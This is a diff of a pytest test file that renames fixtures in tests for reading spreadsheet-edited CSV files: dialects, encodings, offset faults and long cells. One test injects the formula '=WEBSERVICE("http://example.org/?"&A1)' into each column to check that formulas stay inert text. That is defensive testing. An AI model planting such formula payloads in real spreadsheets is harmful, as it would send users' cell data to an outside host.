@@ -26,14 +26,14 @@ TEXT = (
 
 
 @pytest.fixture(scope="module")
-def made(tmp_path_factory):
+def ballot(tmp_path_factory):
     """A folder to be corrected, as `begin` makes it."""
-    return begun(tmp_path_factory.mktemp("made"), "vote", TEXT)
+    return begun(tmp_path_factory.mktemp("ballot"), "vote", TEXT)
 
 
 @pytest.fixture
-def folder(made, tmp_path):
-    return shutil.copytree(made, tmp_path / "vote")
+def ballot_copy(ballot, tmp_path):
+    return shutil.copytree(ballot, tmp_path / "vote")
 
 
 def table(folder, name):
@@ -98,42 +98,42 @@ DIALECTS = {
 
 
 @pytest.mark.parametrize("dialect", DIALECTS)
-def test_every_dialect_is_read_without_a_word(folder, made, dialect):
+def test_every_dialect_is_read_without_a_word(ballot_copy, ballot, dialect):
     for name in COLUMNS:
-        if rows := table(folder, name):
-            (folder / f"{name}.csv").write_bytes(DIALECTS[dialect](rows))
-    loaded, notices = corrected.read_edition(folder)
+        if rows := table(ballot_copy, name):
+            (ballot_copy / f"{name}.csv").write_bytes(DIALECTS[dialect](rows))
+    loaded, notices = corrected.read_edition(ballot_copy)
     assert notices == []
-    same(loaded, edition_of(made))
+    same(loaded, edition_of(ballot))
 
 
-def test_the_row_named_is_the_spreadsheets(folder):
-    rows = table(folder, "entities")
+def test_the_row_named_is_the_spreadsheets(ballot_copy):
+    rows = table(ballot_copy, "entities")
     rows[1]["type"] = "COUNTRY"
-    (folder / "entities.csv").write_bytes(("sep=;\r" + written(rows, ";", "\r")).encode())
+    (ballot_copy / "entities.csv").write_bytes(("sep=;\r" + written(rows, ";", "\r")).encode())
     with pytest.raises(InputError, match="entities.csv, row 3: found type 'COUNTRY'"):
-        edition_of(folder)
+        edition_of(ballot_copy)
 
 
-def test_windows_1252_is_said_and_what_it_lost_is_given_back(folder, made):
+def test_windows_1252_is_said_and_what_it_lost_is_given_back(ballot_copy, ballot):
     for name in COLUMNS:
-        (folder / f"{name}.csv").write_bytes(
-            (folder / f"{name}.csv").read_bytes().decode("utf-8-sig").encode("cp1252", "replace")
+        (ballot_copy / f"{name}.csv").write_bytes(
+            (ballot_copy / f"{name}.csv").read_bytes().decode("utf-8-sig").encode("cp1252", "replace")
         )
-    loaded, notices = corrected.read_edition(folder)
-    same(loaded, edition_of(made))
+    loaded, notices = corrected.read_edition(ballot_copy)
+    same(loaded, edition_of(ballot))
     assert any("Windows-1252" in line and "CSV UTF-8" in line for line in notices)
     assert any("'?ódź'" in line or "'?ód?'" in line for line in notices)
 
 
 @pytest.mark.parametrize("page", spreadsheet.CODE_PAGES)
-def test_utf_8_that_was_read_as_something_else_is_read_back(folder, made, page):
+def test_utf_8_that_was_read_as_something_else_is_read_back(ballot_copy, ballot, page):
     for name in COLUMNS:
-        data = (folder / f"{name}.csv").read_bytes()
+        data = (ballot_copy / f"{name}.csv").read_bytes()
         misread = "".join(bytes([byte]).decode(page, "ignore") or chr(0xF100 + byte) for byte in data)
-        (folder / f"{name}.csv").write_bytes(misread.encode("utf-8-sig"))
-    loaded, notices = corrected.read_edition(folder)
-    same(loaded, edition_of(made))
+        (ballot_copy / f"{name}.csv").write_bytes(misread.encode("utf-8-sig"))
+    loaded, notices = corrected.read_edition(ballot_copy)
+    same(loaded, edition_of(ballot))
     assert all("UTF-8 that was read as" in line for line in notices) and len(notices) == len(COLUMNS)
 
 
@@ -149,10 +149,10 @@ def test_utf_8_that_was_read_as_something_else_is_read_back(folder, made, page):
         (b"id\n\xe9", "byte 0xe9"),
     ],
 )
-def test_what_is_no_table_gets_one_line(folder, data, found):
-    (folder / "entities.csv").write_bytes(data)
+def test_what_is_no_table_gets_one_line(ballot_copy, data, found):
+    (ballot_copy / "entities.csv").write_bytes(data)
     with pytest.raises(InputError, match=f"entities.csv.*{found}"):
-        edition_of(folder)
+        edition_of(ballot_copy)
 
 
 def test_a_nul_far_into_a_table_is_named(copy):
@@ -212,36 +212,36 @@ FAULTS = [
 
 
 @pytest.mark.parametrize("start, end, text", FAULTS)
-def test_wrong_places_and_words_stay_faults(folder, start, end, text):
-    rows = table(folder, "entities")
+def test_wrong_places_and_words_stay_faults(ballot_copy, start, end, text):
+    rows = table(ballot_copy, "entities")
     rows[0].update({key: value for key, value in (("start", start), ("end", end), ("text", text)) if value is not None})
-    write(folder, "entities", rows)
+    write(ballot_copy, "entities", rows)
     with pytest.raises(InputError, match="entities.csv, row 2: ") as caught:
-        edition_of(folder)
+        edition_of(ballot_copy)
     assert all("to mend:" in line for line in str(caught.value).splitlines())
 
 
-def test_a_span_one_off_is_a_fault_on_either_side_for_every_row(folder):
+def test_a_span_one_off_is_a_fault_on_either_side_for_every_row(ballot_copy):
     """Wherever an offset is moved by one, no repair hides it."""
-    rows = table(folder, "entities")
+    rows = table(ballot_copy, "entities")
     for place, row in enumerate(rows):
         for name, by in (("start", -1), ("start", 1), ("end", -1), ("end", 1)):
             moved = [dict(one) for one in rows]
             moved[place][name] = str(int(row[name]) + by)
-            write(folder, "entities", moved)
+            write(ballot_copy, "entities", moved)
             with pytest.raises(InputError, match=f"row {place + 2}: .*(set start,end to|copy text|a whole number)"):
-                edition_of(folder)
+                edition_of(ballot_copy)
 
 
 @pytest.mark.parametrize("name", COLUMNS)
-def test_a_formula_in_any_column_is_text(folder, name):
-    rows = table(folder, name)
+def test_a_formula_in_any_column_is_text(ballot_copy, name):
+    rows = table(ballot_copy, name)
     for column in rows[0] if rows else []:
         changed = [dict(one) for one in rows]
         changed[0][column] = '=WEBSERVICE("http://example.org/?"&A1)'
-        write(folder, name, changed)
+        write(ballot_copy, name, changed)
         try:
-            loaded, _ = corrected.read_edition(folder)
+            loaded, _ = corrected.read_edition(ballot_copy)
         except InputError as error:
             assert "row 2: found " in str(error) and "to mend:" in str(error)
         else:
@@ -340,12 +340,12 @@ def test_a_long_file_is_read_in_time(tmp_path):
 def test_a_paragraph_longer_than_a_cell_may_be(tmp_path):
     path = tmp_path / "long.txt"
     path.write_text("Anna said that it rained and rained. " * 8_000, encoding="utf-8")
-    folder = begin.begin(path)
-    rows = table_of(folder / "blocks.csv")
+    ballot_copy = begin.begin(path)
+    rows = table_of(ballot_copy / "blocks.csv")
     assert len(rows[0]["text"]) > 131_072
     rows[0]["text"] = rows[0]["text"][:32_767]
-    write(folder, "blocks", rows)
-    loaded, (line,) = corrected.read_edition(folder)
+    write(ballot_copy, "blocks", rows)
+    loaded, (line,) = corrected.read_edition(ballot_copy)
     assert "the end cut off" in line and loaded.blocks.text.iloc[0] == loaded.raw.strip()
 
 
@@ -442,17 +442,17 @@ def test_any_edition_changed_by_a_spreadsheet_loads_as_it_was(tmp_path_factory, 
     path.write_text("\n".join(sentences), encoding="utf-8", newline="")
     with warnings.catch_warnings():
         warnings.simplefilter("ignore", InputWarning)
-        folder = begin.begin(path)
-        before = edition_of(folder)
+        ballot_copy = begin.begin(path)
+        before = edition_of(ballot_copy)
         for name in COLUMNS:
-            rows = table(folder, name)
+            rows = table(ballot_copy, name)
             for row in rows:
                 for column in ("text", "name", "entity", "role", "pronoun"):
                     if row.get(column):
                         row[column] = way(row[column])
             if rows:
-                (folder / f"{name}.csv").write_bytes(DIALECTS[dialect](rows))
-        same(edition_of(folder), before)
+                (ballot_copy / f"{name}.csv").write_bytes(DIALECTS[dialect](rows))
+        same(edition_of(ballot_copy), before)
 
 
 def test_guards_come_off_as_they_were_put_on():
